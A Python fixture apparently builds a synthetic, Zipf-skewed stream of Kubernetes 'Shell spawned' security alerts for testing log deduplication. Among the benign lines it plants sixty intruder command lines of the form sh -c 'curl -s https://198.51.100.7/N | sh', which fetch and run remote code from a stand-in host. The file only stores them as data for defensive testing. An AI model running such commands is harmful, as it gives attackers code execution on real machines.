"""A skewed mix with known truth: workloads that do a few things often and many seldom, and an intruder among them.

Six hours of one node's alerts. Workloads are of very different sizes, and so are the shares of their command lines: the
n-th is as likely as 1 to n to the power of `SKEW` (Zipf's law), which no deduplication that knows only the last few
would get right. The intruder's command lines are each there once, in groups that are busy anyway.
"""

from __future__ import annotations

import random
from typing import Final, NamedTuple

import orjson

from streamer.transform.stamp import to_rfc3339

START_NS: Final = 1_795_132_800 * 10**9  # 2026-11-20T00:00:00Z
SECONDS: Final = 6 * 3600
ALERTS: Final = 30_000
WORKLOADS: Final = 40
COMMANDS: Final = 60
"""The benign command lines of each workload."""
SKEW: Final = 1.6
PLANTED: Final = 60
PRIORITIES: Final = ("Notice", "Notice", "Notice", "Warning", "Error", "Critical")
RULE: Final = "Run shell untrusted"


class Line(NamedTuple):
    """One line of the log; `planted` is the intruder's command line, if it is one of those."""

    time_ns: int
    node: int
    body: bytes
    planted: str = ""


def lines(seed: int = 0) -> list[Line]:
    """All lines of the mix, in the order of time."""
    rng = random.Random(seed)
    workloads = range(WORKLOADS)
    of_workloads, of_commands = _zipf(WORKLOADS, 1.0), _zipf(COMMANDS, SKEW)
    found: list[Line] = []
    for workload in rng.choices(workloads, of_workloads, k=ALERTS):
        (step,) = rng.choices(range(COMMANDS), of_commands)
        found.append(_line(rng, rng.random() * SECONDS, workload, f"task-{workload} --step {step}"))
    for number in range(PLANTED):
        (workload,) = rng.choices(workloads, of_workloads)
        command = f"sh -c 'curl -s https://198.51.100.7/{number} | sh'"
        found.append(_line(rng, rng.random() * SECONDS, workload, command, command))
    return sorted(found)


def _zipf(count: int, power: float) -> list[float]:
    return [1 / n**power for n in range(1, count + 1)]


def _line(rng: random.Random, at: float, workload: int, command: str, planted: str = "") -> Line:
    time_ns = START_NS + int(at * 10**9)
    time, priority = to_rfc3339(time_ns), PRIORITIES[workload % len(PRIORITIES)]
    alert = {
        "hostname": "node-1",
        "output": f"{time[11:29]}: {priority} Shell spawned | command={command}",
        "output_fields": {
            "container.id": f"{workload:012x}",
            "evt.time": time_ns,
            "k8s.ns.name": "shop",
            "k8s.pod.name": f"workload-{workload}",
            "proc.cmdline": command,
            "proc.name": "sh",
            "proc.pid": rng.randrange(1, 4_000_000),
            "user.name": "root",
        },
        "priority": priority,
        "rule": RULE,
        "source": "syscall",
        "tags": ["T1059"],
        "time": time,
    }
    return Line(time_ns, 0, orjson.dumps(alert), planted)
